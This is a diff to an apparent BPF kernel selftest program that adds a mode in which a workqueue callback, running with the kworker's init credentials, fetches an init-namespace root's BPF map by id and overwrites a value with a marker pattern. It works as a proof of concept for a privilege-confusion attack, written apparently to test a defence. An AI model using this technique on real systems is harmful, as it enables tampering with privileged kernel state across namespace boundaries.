@@ -34,6 +34,17 @@ int child_fd = -1000;
 int wq_done;
 int direct_fd = -1000;
 
+/*
+ * attack_token_wq_init_creds (test_ipe.c): mode 1 makes the callback take
+ * a map of init-namespace root by its id and overwrite its first value,
+ * with the kworker's credentials (init_cred), not the caller's.
+ */
+int mode;
+__u32 victim_id;
+int victim_key;
+__u64 victim_new = 0x4141414141414141ULL;
+int grab_ret = -1000;
+
 static __always_inline int load_child(void)
 {
 	union bpf_attr attr = {};
@@ -46,9 +57,37 @@ static __always_inline int load_child(void)
 	return bpf_sys_bpf(BPF_PROG_LOAD, &attr, sizeof(attr));
 }
 
+static __always_inline int grab_map(void)
+{
+	union bpf_attr attr = {};
+	int fd, ret;
+
+	attr.map_id = victim_id;
+	fd = bpf_sys_bpf(BPF_MAP_GET_FD_BY_ID, &attr, sizeof(attr));
+	if (fd < 0)
+		return fd;
+	__builtin_memset(&attr, 0, sizeof(attr));
+	attr.map_fd = fd;
+	attr.key = (long)&victim_key;
+	attr.value = (long)&victim_new;
+	ret = bpf_sys_bpf(BPF_MAP_UPDATE_ELEM, &attr, sizeof(attr));
+	bpf_sys_close(fd);
+	return ret;
+}
+
 static int load_cb(void *map, int *key, void *value)
 {
-	child_fd = load_child();
+	int fd;
+
+	if (mode == 1) {
+		grab_ret = grab_map();
+	} else {
+		/* the fd is the kworker's (init_files): keep the result only */
+		fd = load_child();
+		child_fd = fd;
+		if (fd >= 0)
+			bpf_sys_close(fd);
+	}
 	wq_done = 1;
 	return 0;
 }
